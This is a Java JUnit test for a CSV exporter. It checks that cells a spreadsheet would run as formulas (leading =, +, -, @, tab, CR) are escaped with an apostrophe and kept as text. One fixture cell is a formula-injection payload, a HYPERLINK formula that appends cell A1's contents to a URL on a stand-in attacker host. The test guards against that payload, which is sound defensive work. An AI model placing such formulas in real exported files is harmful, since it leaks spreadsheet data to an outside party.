package org.steward.exports;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;

class CsvExportTest {

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() {
        List<List<?>> rows = List.of(
                List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", -5, "+1", "-2", "@SUM(A1)"),
                List.of("\tTab", 3.5, "\rCR", "Ann O'Neil", "plain"));

        String csv = new String(CsvExport.of(List.of("name", "n", "a", "b", "c"), rows, r -> r),
                StandardCharsets.UTF_8);

        assertThat(csv.split("\r\n")).containsExactly(
                "name,n,a,b,c",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",-5,'+1,'-2,'@SUM(A1)",
                "'\tTab,3.5,\"'\rCR\",Ann O'Neil,plain");
    }
}
